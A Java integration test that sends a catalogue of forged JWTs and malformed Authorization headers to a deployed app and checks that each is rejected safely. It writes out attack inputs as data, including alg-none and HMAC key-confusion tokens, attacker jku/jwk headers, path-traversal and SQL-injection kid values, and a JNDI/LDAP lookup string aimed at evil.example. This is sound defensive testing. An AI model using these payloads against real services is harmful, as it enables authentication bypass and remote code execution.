package dev.cognitoee.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.ECDSASigner;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jose.util.Base64;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import dev.cognitoee.it.app.SecurityConfig;
import dev.cognitoee.it.support.CognitoFixture;
import dev.cognitoee.it.support.Deployer;
import dev.cognitoee.it.support.Forgery;
import dev.cognitoee.it.support.RawHttp;
import dev.cognitoee.it.support.SharedPayara;
import dev.cognitoee.it.support.TestWars;
import dev.cognitoee.testing.JwksServer;
import java.net.URI;
import java.net.URL;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Consumer;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * The attack catalogue (issue 10): crafted bad tokens and {@code Authorization} headers, sent over a raw socket to
 * a protected resource of a deployed application. Expected of every case: not accepted (no 2xx), no 5xx, the
 * token never echoed, an answer within {@link #BOUND} (a safety net for hangs, not a performance figure). A
 * one-line summary is printed for docs/RELIABILITY.md.
 */
@ExtendWith(SharedPayara.class)
class AttackCatalogueIT {

    private static final String APP = "attacks";
    private static final String PROTECTED = "api/caller";
    private static final Duration BOUND = Duration.ofSeconds(5);
    private static final String KID = "CognitoLocal";
    private static final long SIGN_IN_SEED = 20261202L;
    private static final int SIGN_IN_CASES = 300;

    /** An attacker's JWKS endpoint: jku/x5u headers point at it; the module must never fetch from it. */
    private static JwksServer attackerKeys;
    private static RSAKey attacker;

    private static URL base;

    @BeforeAll
    static void deploy(Deployer payara) {
        base = payara.deploy(deployment()).url(APP);
    }

    static WebArchive deployment() {
        return TestWars.war(APP, TestWars.poolSettings(CognitoFixture.shared()), SecurityConfig.class.getPackage());
    }

    @BeforeEach
    void deployed() throws Exception {
        TestWars.assertDeployed(base, APP);
        if (attackerKeys == null) {
            attacker = new RSAKeyGenerator(2048).keyID("attacker-key").generate();
            attackerKeys = new JwksServer(attacker.toPublicJWK());
        }
    }

    @AfterAll
    static void stopAttackerKeys() {
        if (attackerKeys != null) {
            attackerKeys.close();
        }
    }

    /** One crafted request: its header lines (written raw), the path, and the token it carries, if any. */
    private record Attack(String name, String path, List<String> headers, String token) {

        static Attack bearer(String name, String token) {
            return new Attack(name, PROTECTED, List.of("Authorization: Bearer " + token), token);
        }

        static Attack headers(String name, String token, String... lines) {
            return new Attack(name, PROTECTED, List.of(lines), token);
        }
    }

    @Test
    void noCraftedTokenOrHeaderIsAcceptedNorAnswered5xx() throws Exception {
        CognitoFixture fixture = CognitoFixture.shared();
        String genuine = fixture.signIn(CognitoFixture.ALICE).accessToken();
        assertThat(RawHttp.get(base, PROTECTED, List.of("Authorization: Bearer " + genuine)).status())
                .as("the genuine token it is all made from is accepted").isEqualTo(200);

        List<Attack> attacks = new ArrayList<>();
        attacks.addAll(algorithmAttacks(genuine, fixture));
        attacks.addAll(keyIdAttacks(genuine));
        attacks.addAll(headerKeyAttacks(genuine));
        attacks.addAll(claimAttacks(genuine, fixture));
        attacks.addAll(encodingAttacks(genuine));
        attacks.addAll(httpAttacks(genuine, fixture));

        List<String> failures = new ArrayList<>();
        int accepted = 0;
        int serverErrors = 0;
        long maxMillis = 0;
        for (Attack attack : attacks) {
            RawHttp.Response response = RawHttp.get(base, attack.path(), attack.headers());
            maxMillis = Math.max(maxMillis, response.millis());
            String firstLine = response.text().lines().findFirst().orElse("(no answer)");
            if (response.accepted()) {
                accepted++;
                failures.add(attack.name() + ": accepted, " + firstLine);
            }
            if (response.serverError()) {
                serverErrors++;
                failures.add(attack.name() + ": " + firstLine);
            }
            if (response.status() == 0) {
                failures.add(attack.name() + ": the connection closed without an answer");
            }
            if (response.millis() > BOUND.toMillis()) {
                failures.add(attack.name() + ": answered after " + response.millis() + " ms");
            }
            if (attack.token() != null && attack.token().length() > 20 && response.text().contains(attack.token())) {
                failures.add(attack.name() + ": the token is echoed in the answer");
            }
        }

        System.out.printf("attack catalogue: cases %d, accepted %d, 5xx %d, max ms %d%n",
                attacks.size(), accepted, serverErrors, maxMillis);
        assertThat(attacks).hasSizeGreaterThanOrEqualTo(50);
        assertThat(failures).as("cases answered wrongly").isEmpty();
        assertThat(attackerKeys.requests()).as("jku/x5u never followed").isZero();
    }

    /**
     * Seeded mutations of form and JSON sign-in bodies POSTed to {@code j_security_check} (without an
     * {@code Origin} header): whatever the body, never a 500.
     */
    @Test
    void mutatedSignInBodiesAreNeverAnswered500() {
        Random random = new Random(SIGN_IN_SEED);
        Map<Integer, Integer> statuses = new TreeMap<>();
        List<String> failures = new ArrayList<>();
        for (int i = 0; i < SIGN_IN_CASES; i++) {
            boolean json = i % 2 == 0;
            String contentType = json
                    ? List.of("application/json", "application/json; charset=UTF-8", "APPLICATION/JSON").get(
                    random.nextInt(3))
                    : List.of("application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8",
                    "application/x-www-form-urlencoded; charset=bogus").get(random.nextInt(3));
            byte[] body = signInBody(random, json);
            RawHttp.Response response = RawHttp.post(base, "j_security_check", contentType, body);
            statuses.merge(response.status(), 1, Integer::sum);
            if (response.status() == 500 || response.status() == 0) {
                failures.add("case " + i + " (" + contentType + ", " + body.length + " bytes): "
                        + response.text().lines().findFirst().orElse("(no answer)"));
            }
            if (response.text().contains(CognitoFixture.PASSWORD)) {
                failures.add("case " + i + ": the password is echoed");
            }
        }
        System.out.printf("sign-in fuzz (HTTP): seed %d, cases %d, 500s %d, statuses %s%n", SIGN_IN_SEED,
                SIGN_IN_CASES, statuses.getOrDefault(500, 0), statuses);
        assertThat(failures).as("bodies answered 500 or not at all").isEmpty();
        assertThat(statuses.keySet()).as("the fuzzer reaches refusals").contains(400);
    }

    private static byte[] signInBody(Random r, boolean json) {
        String valid = json
                ? "{\"username\":\"alice\",\"password\":\"" + CognitoFixture.PASSWORD + "\"}"
                : "j_username=alice&j_password=" + CognitoFixture.PASSWORD;
        String body = switch (r.nextInt(8)) {
            // nested inside the object, where the reader descends: past Parsson's depth limit, under the body limit
            case 0 -> json ? "{\"username\":" + "[".repeat(1 + r.nextInt(15_000))
                    : "j_username=" + "%".repeat(1 + r.nextInt(50));
            case 1 -> json ? "{\"username\":\"alice\",\"username\":\"bob\",\"password\":\"x\"}"
                    : "j_username=alice&j_username=bob&j_password=x";
            case 2 -> json ? "{\"username\":\"" + "a".repeat(r.nextInt(20_000)) + "\",\"password\":\"x\"}"
                    : "j_username=" + "a".repeat(r.nextInt(20_000)) + "&j_password=x";
            default -> mutate(r, valid);
        };
        byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
        if (r.nextInt(6) == 0 && bytes.length > 0) {
            bytes[r.nextInt(bytes.length)] = (byte) (0x80 + r.nextInt(128)); // not UTF-8
        }
        return bytes;
    }

    private static String mutate(Random r, String text) {
        String nasty = "{}[]\":,\\ \t\r\n\u0000\u00e9\u202e%&=+;'<>0123456789%zz%00%C0%AF";
        StringBuilder out = new StringBuilder(text);
        for (int n = 1 + r.nextInt(4); n > 0; n--) {
            int at = r.nextInt(out.length() + 1);
            switch (r.nextInt(3)) {
                case 0 -> out.insert(at, nasty.charAt(r.nextInt(nasty.length())));
                case 1 -> {
                    if (at < out.length()) {
                        out.deleteCharAt(at);
                    }
                }
                default -> out.setLength(Math.min(out.length(), at + r.nextInt(4)));
            }
        }
        return out.toString();
    }

    private static List<Attack> algorithmAttacks(String genuine, CognitoFixture fixture) throws Exception {
        JWTClaimsSet claims = SignedJWT.parse(genuine).getJWTClaimsSet();
        RSAKey poolKey = (RSAKey) JWKSet.load(new URL(fixture.emulator().jwksUri(fixture.poolId))).getKeyByKeyId(KID);
        String payload = Forgery.payloadJson(genuine);
        String signature = genuine.substring(genuine.lastIndexOf('.') + 1);
        List<Attack> attacks = new ArrayList<>();
        attacks.add(Attack.bearer("alg none, the signature kept", Forgery.algNone(genuine)));
        attacks.add(Attack.bearer("alg none, no signature",
                Forgery.base64Url("{\"alg\":\"none\"}") + "." + Forgery.base64Url(payload) + "."));
        for (String none : List.of("None", "NONE", "nOnE")) {
            attacks.add(Attack.bearer("alg " + none, Forgery.base64Url("{\"alg\":\"" + none + "\",\"kid\":\"" + KID
                    + "\"}") + "." + Forgery.base64Url(payload) + "." + signature));
        }
        attacks.add(Attack.bearer("HS256 keyed with the pool's public key (DER)",
                Forgery.hs256WithPublicKey(genuine, fixture.emulator().jwksUri(fixture.poolId))));
        attacks.add(Attack.bearer("HS256 keyed with the pool's JWK JSON",
                hmac(JWSAlgorithm.HS256, poolKey.toPublicJWK().toJSONString().getBytes(StandardCharsets.UTF_8), claims)));
        attacks.add(Attack.bearer("HS256 keyed with the pool's public key (PEM)", hmac(JWSAlgorithm.HS256,
                pem(poolKey).getBytes(StandardCharsets.UTF_8), claims)));
        attacks.add(Attack.bearer("HS512 keyed with the pool's modulus",
                hmac(JWSAlgorithm.HS512, poolKey.getModulus().decode(), claims)));
        attacks.add(Attack.bearer("RS512 by the pool's own key", Forgery.resignedByEmulator(genuine,
                new JWSHeader.Builder(JWSAlgorithm.RS512).keyID(KID).build(), c -> { })));
        attacks.add(Attack.bearer("PS256 by the pool's own key", Forgery.resignedByEmulator(genuine,
                new JWSHeader.Builder(JWSAlgorithm.PS256).keyID(KID).build(), c -> { })));
        var ec = new ECKeyGenerator(Curve.P_256).keyID(KID).generate();
        SignedJWT es256 = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.ES256).keyID(KID).build(), claims);
        es256.sign(new ECDSASigner(ec));
        attacks.add(Attack.bearer("ES256 by an attacker's key, the pool's kid", es256.serialize()));
        attacks.add(Attack.bearer("RS256 by an attacker's key, the pool's kid",
                signed(new RSAKeyGenerator(2048).keyID(KID).generate(), KID, claims)));
        attacks.add(Attack.bearer("no alg", Forgery.base64Url("{\"kid\":\"" + KID + "\"}") + "."
                + Forgery.base64Url(payload) + "." + signature));
        attacks.add(Attack.bearer("alg is a number", Forgery.base64Url("{\"alg\":256,\"kid\":\"" + KID + "\"}")
                + "." + Forgery.base64Url(payload) + "." + signature));
        attacks.add(Attack.bearer("JWE header (RSA-OAEP) over the payload",
                Forgery.base64Url("{\"alg\":\"RSA-OAEP\",\"enc\":\"A256GCM\",\"kid\":\"" + KID + "\"}") + "."
                        + Forgery.base64Url(payload) + "." + signature));
        attacks.add(Attack.bearer("crit header the verifier cannot understand",
                Forgery.signedRawByEmulator("{\"alg\":\"RS256\",\"kid\":\"" + KID
                        + "\",\"crit\":[\"exp\"],\"exp\":1}", payload)));
        return attacks;
    }

    private static List<Attack> keyIdAttacks(String genuine) throws Exception {
        JWTClaimsSet claims = SignedJWT.parse(genuine).getJWTClaimsSet();
        String payload = Forgery.payloadJson(genuine);
        List<Attack> attacks = new ArrayList<>();
        List<String> kids = List.of("../../../../../../etc/passwd", "../.well-known/jwks.json",
                KID + "\"", "' OR '1'='1", "\"; DROP TABLE keys; --", "x".repeat(8000), KID + "\u202e",
                "C\u00f6gnitoLocal", "\ud83d\udd11", KID + "\u0000", KID + "\r\nX-Injected: 1", "",
                "http://evil.example/key.json", "${jndi:ldap://evil.example/a}");
        for (String kid : kids) {
            String name = kid.length() > 40 ? "kid of " + kid.length() + " characters" : "kid " + printable(kid);
            attacks.add(Attack.bearer(name + ", signed by the attacker", signed(attacker, kid, claims)));
        }
        attacks.add(Attack.bearer("kid is a number", Forgery.signedRawByEmulator("{\"alg\":\"RS256\",\"kid\":1}",
                payload)));
        attacks.add(Attack.bearer("kid is an object", Forgery.signedRawByEmulator(
                "{\"alg\":\"RS256\",\"kid\":{\"$ne\":null}}", payload)));
        attacks.add(Attack.bearer("kid null", Forgery.signedRawByEmulator("{\"alg\":\"RS256\",\"kid\":null}",
                payload)));
        attacks.add(Attack.bearer("no kid, signed by the pool", Forgery.signedRawByEmulator("{\"alg\":\"RS256\"}",
                payload)));
        return attacks;
    }

    private static List<Attack> headerKeyAttacks(String genuine) throws Exception {
        JWTClaimsSet claims = SignedJWT.parse(genuine).getJWTClaimsSet();
        URI attackerUri = attackerKeys.uri();
        List<Attack> attacks = new ArrayList<>();
        attacks.add(Attack.bearer("jwk: the attacker's key embedded, the pool's kid", signed(attacker,
                new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(KID).jwk(attacker.toPublicJWK()).build(), claims)));
        attacks.add(Attack.bearer("jwk: the attacker's key embedded, its own kid", signed(attacker,
                new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(attacker.getKeyID()).jwk(attacker.toPublicJWK())
                        .build(), claims)));
        attacks.add(Attack.bearer("jwk: the attacker's key embedded, no kid", signed(attacker,
                new JWSHeader.Builder(JWSAlgorithm.RS256).jwk(attacker.toPublicJWK()).build(), claims)));
        attacks.add(Attack.bearer("jku: the attacker's JWKS, its kid", signed(attacker,
                new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(attacker.getKeyID()).jwkURL(attackerUri).build(),
                claims)));
        attacks.add(Attack.bearer("jku: the attacker's JWKS, the pool's kid", signed(attacker,
                new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(KID).jwkURL(attackerUri).build(), claims)));
        attacks.add(Attack.bearer("x5u: the attacker's URL", signed(attacker,
                new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(attacker.getKeyID()).x509CertURL(attackerUri)
                        .build(), claims)));
        attacks.add(Attack.bearer("x5c: a made-up chain", signed(attacker,
                new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(attacker.getKeyID())
                        .x509CertChain(List.of(Base64.encode("not a certificate"))).build(), claims)));
        return attacks;
    }

    private static List<Attack> claimAttacks(String genuine, CognitoFixture fixture) throws Exception {
        String issuer = fixture.emulator().issuer(fixture.poolId);
        Instant now = Instant.now();
        List<Attack> attacks = new ArrayList<>();
        attacks.add(resigned("wrong issuer: another pool", genuine,
                c -> c.issuer(fixture.emulator().issuer(fixture.otherPoolId))));
        attacks.add(resigned("issuer with a trailing slash", genuine, c -> c.issuer(issuer + "/")));
        attacks.add(resigned("issuer in upper case", genuine, c -> c.issuer(issuer.toUpperCase())));
        attacks.add(resigned("issuer with a Cyrillic o", genuine, c -> c.issuer(issuer.replace("o", "\u043e"))));
        attacks.add(resigned("issuer with CRLF", genuine, c -> c.issuer(issuer + "\r\n")));
        attacks.add(resigned("no issuer", genuine, c -> c.issuer(null)));
        attacks.add(resigned("issuer is an array", genuine, c -> c.claim("iss", List.of(issuer))));
        attacks.add(resigned("wrong client: the other pool's", genuine,
                c -> c.claim("client_id", fixture.otherPoolClientId)));
        attacks.add(resigned("client_id with a NUL", genuine, c -> c.claim("client_id", fixture.clientId + "\u0000")));
        attacks.add(resigned("client_id is an array", genuine,
                c -> c.claim("client_id", List.of(fixture.clientId, "other"))));
        attacks.add(resigned("no client_id", genuine, c -> c.claim("client_id", null)));
        attacks.add(Attack.bearer("an id token where access tokens are expected",
                fixture.signIn(CognitoFixture.ALICE).idToken()));
        attacks.add(resigned("token_use id", genuine, c -> c.claim("token_use", "id")));
        attacks.add(resigned("token_use ACCESS", genuine, c -> c.claim("token_use", "ACCESS")));
        attacks.add(resigned("token_use with CRLF", genuine, c -> c.claim("token_use", "access\r\n")));
        attacks.add(resigned("no token_use", genuine, c -> c.claim("token_use", null)));
        attacks.add(Attack.bearer("expired", Forgery.expired(genuine)));
        attacks.add(resigned("not yet valid (nbf in an hour)", genuine,
                c -> c.notBeforeTime(Date.from(now.plusSeconds(3600)))));
        attacks.add(resigned("issued tomorrow", genuine, c -> c.issueTime(Date.from(now.plusSeconds(86_400)))));
        attacks.add(resigned("no exp", genuine, c -> c.expirationTime(null)));
        attacks.add(resigned("exp is a string", genuine, c -> c.claim("exp", "tomorrow")));
        attacks.add(resigned("exp negative", genuine, c -> c.claim("exp", -1L)));
        String payload = Forgery.payloadJson(genuine);
        String header = "{\"alg\":\"RS256\",\"kid\":\"" + KID + "\"}";
        attacks.add(Attack.bearer("exp 1e30", Forgery.signedRawByEmulator(header,
                payload.replaceFirst("\"exp\":\\d+", "\"exp\":1e30"))));
        attacks.add(Attack.bearer("exp past Long.MAX_VALUE", Forgery.signedRawByEmulator(header,
                payload.replaceFirst("\"exp\":\\d+", "\"exp\":92233720368547758070"))));
        attacks.add(Attack.bearer("duplicate iss, the last one foreign", Forgery.signedRawByEmulator(header,
                payload.replaceFirst("\\}$", ",\"iss\":\"https://evil.example/pool\"}"))));
        attacks.add(Attack.bearer("duplicate token_use, the last one id", Forgery.signedRawByEmulator(header,
                payload.replaceFirst("\\}$", ",\"token_use\":\"id\"}"))));
        attacks.add(Attack.bearer("duplicate exp, the last one past", Forgery.signedRawByEmulator(header,
                payload.replaceFirst("\\}$", ",\"exp\":1000}"))));
        attacks.add(Attack.bearer("payload nested 3000 deep, signed by the pool", Forgery.signedRawByEmulator(header,
                payload.replaceFirst("\\}$", ",\"deep\":" + "[".repeat(3000) + "]".repeat(3000) + "}"))));
        attacks.add(Attack.bearer("header nested 3000 deep", Forgery.base64Url("{\"alg\":\"RS256\",\"kid\":\"" + KID
                + "\",\"x\":" + "[".repeat(3000) + "]".repeat(3000) + "}") + "." + Forgery.base64Url(payload)
                + "." + genuine.substring(genuine.lastIndexOf('.') + 1)));
        attacks.add(Attack.bearer("payload is not JSON, signed by the pool",
                Forgery.signedRawByEmulator(header, "hello")));
        attacks.add(Attack.bearer("payload is a JSON array, signed by the pool",
                Forgery.signedRawByEmulator(header, "[" + payload + "]")));
        attacks.add(Attack.bearer("payload has a duplicate header member", Forgery.signedRawByEmulator(
                "{\"alg\":\"RS256\",\"kid\":\"" + KID + "\",\"alg\":\"none\"}", payload)));
        attacks.add(Attack.bearer("username with CRLF, the signature kept", withPayload(genuine,
                payload.replace("\"username\":\"alice\"", "\"username\":\"alice\\r\\nX-Role: admin\""))));
        attacks.add(Attack.bearer("groups with unicode, the signature kept", withPayload(genuine,
                payload.replace("\"cognito:groups\":[", "\"cognito:groups\":[\"\u0430dmin\","))));
        return attacks;
    }

    private static List<Attack> encodingAttacks(String genuine) {
        String[] parts = genuine.split("\\.");
        java.util.Base64.Encoder standard = java.util.Base64.getEncoder();
        java.util.Base64.Decoder url = java.util.Base64.getUrlDecoder();
        List<Attack> attacks = new ArrayList<>();
        attacks.add(Attack.bearer("tampered payload, the signature kept", Forgery.tamperedPayload(genuine)));
        attacks.add(Attack.bearer("tampered signature", Forgery.tamperedSignature(genuine)));
        attacks.add(Attack.bearer("standard base64 with padding", standard.encodeToString(url.decode(parts[0])) + "."
                + standard.encodeToString(url.decode(parts[1])) + "." + standard.encodeToString(url.decode(parts[2]))));
        attacks.add(Attack.bearer("a '*' in the payload", parts[0] + "." + parts[1].substring(0, 10) + "*"
                + parts[1].substring(10) + "." + parts[2]));
        attacks.add(Attack.bearer("a percent-encoded dot", parts[0] + "%2E" + parts[1] + "." + parts[2]));
        attacks.add(Attack.bearer("two segments", parts[0] + "." + parts[1]));
        attacks.add(Attack.bearer("four segments", genuine + "." + parts[2]));
        attacks.add(Attack.bearer("five segments (JWE shape)", genuine + ".AAAA.BBBB"));
        attacks.add(Attack.bearer("empty segments", ".."));
        attacks.add(Attack.bearer("a signature of a length RSA never makes", parts[0] + "." + parts[1] + ".AAAA"));
        attacks.add(Attack.bearer("huge: 40 KB", genuine + "A".repeat(40_000)));
        attacks.add(Attack.bearer("header is not JSON", Forgery.base64Url("hello") + "." + parts[1] + "." + parts[2]));
        attacks.add(Attack.bearer("header is an empty object", Forgery.base64Url("{}") + "." + parts[1] + "."
                + parts[2]));
        return attacks;
    }

    private static List<Attack> httpAttacks(String genuine, CognitoFixture fixture) {
        String forged = Forgery.tamperedSignature(genuine);
        String otherPool = fixture.signIn(fixture.otherPoolId, fixture.otherPoolClientId, null, CognitoFixture.ALICE)
                .accessToken();
        List<Attack> attacks = new ArrayList<>();
        attacks.add(Attack.headers("Bearer and nothing else", null, "Authorization: Bearer"));
        attacks.add(Attack.headers("Bearer and spaces", null, "Authorization: Bearer     "));
        attacks.add(Attack.headers("two tokens in one header", genuine, "Authorization: Bearer " + genuine + " "
                + genuine));
        attacks.add(Attack.headers("two bearer credentials, comma-separated", genuine,
                "Authorization: Bearer " + forged + ", Bearer " + genuine));
        attacks.add(Attack.headers("two Authorization headers, the forged one first", genuine,
                "Authorization: Bearer " + forged, "Authorization: Bearer " + genuine));
        attacks.add(Attack.headers("two Authorization headers, another pool's first", genuine,
                "Authorization: Bearer " + otherPool, "Authorization: Bearer " + genuine));
        attacks.add(Attack.headers("two Authorization headers, the genuine one first", genuine,
                "Authorization: Bearer " + genuine, "Authorization: Bearer " + forged));
        attacks.add(Attack.headers("two Authorization headers, both genuine", genuine,
                "Authorization: Bearer " + genuine, "Authorization: Bearer " + genuine));
        attacks.add(Attack.headers("scheme Token", genuine, "Authorization: Token " + genuine));
        attacks.add(Attack.headers("scheme Bearer= (no space)", genuine, "Authorization: Bearer=" + genuine));
        attacks.add(Attack.headers("scheme Bearer, (no space)", genuine, "Authorization: Bearer," + genuine));
        attacks.add(Attack.headers("no scheme at all", genuine, "Authorization: " + genuine));
        attacks.add(Attack.headers("Basic with the token as password", genuine, "Authorization: Basic "
                + java.util.Base64.getEncoder().encodeToString(("alice:" + genuine).getBytes(StandardCharsets.UTF_8))));
        attacks.add(Attack.headers("Bearer and a tab", forged, "Authorization: Bearer\t" + forged));
        attacks.add(Attack.headers("the token and trailing garbage", genuine, "Authorization: Bearer " + genuine
                + " extra"));
        attacks.add(Attack.headers("a NUL after the token", genuine, "Authorization: Bearer " + genuine + "\u0000"));
        attacks.add(Attack.headers("non-ASCII bytes in the header", forged, "Authorization: Bearer \u00e9" + forged));
        attacks.add(Attack.headers("CRLF: a header injected after the token", forged,
                "Authorization: Bearer " + forged + "\r\nX-Caller: admin"));
        attacks.add(Attack.headers("obsolete line folding inside the token", forged,
                "Authorization: Bearer " + forged.substring(0, 30) + "\r\n " + forged.substring(30)));
        attacks.add(Attack.headers("an Authorization header of 100 KB", null, "Authorization: Bearer "
                + "A".repeat(100_000)));
        attacks.add(Attack.headers("the token in X-Authorization", genuine, "X-Authorization: Bearer " + genuine));
        attacks.add(new Attack("the token in the query string (access_token)", PROTECTED + "?access_token=" + genuine,
                List.of(), null));
        return attacks;
    }

    private static Attack resigned(String name, String genuine, Consumer<JWTClaimsSet.Builder> change) {
        return Attack.bearer(name + ", signed by the pool", Forgery.resignedByEmulator(genuine, change));
    }

    private static String withPayload(String genuine, String payload) {
        String[] parts = genuine.split("\\.");
        return parts[0] + "." + Forgery.base64Url(payload) + "." + parts[2];
    }

    private static String hmac(JWSAlgorithm algorithm, byte[] secret, JWTClaimsSet claims) throws JOSEException {
        SignedJWT jwt = new SignedJWT(new JWSHeader.Builder(algorithm).keyID(KID).build(), claims);
        jwt.sign(new MACSigner(secret));
        return jwt.serialize();
    }

    private static String signed(RSAKey key, String kid, JWTClaimsSet claims) throws JOSEException {
        return signed(key, new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(kid).build(), claims);
    }

    private static String signed(RSAKey key, JWSHeader header, JWTClaimsSet claims) throws JOSEException {
        SignedJWT jwt = new SignedJWT(header, claims);
        jwt.sign(new RSASSASigner(key));
        return jwt.serialize();
    }

    private static String pem(RSAKey key) throws JOSEException {
        return "-----BEGIN PUBLIC KEY-----\n" + java.util.Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
                .encodeToString(key.toRSAPublicKey().getEncoded()) + "\n-----END PUBLIC KEY-----\n";
    }

    private static String printable(String text) {
        StringBuilder out = new StringBuilder();
        text.codePoints().forEach(c -> out.append(c < 0x20 || c > 0x7e ? String.format("\\u%04x", c)
                : String.valueOf((char) c)));
        return out.toString();
    }
}
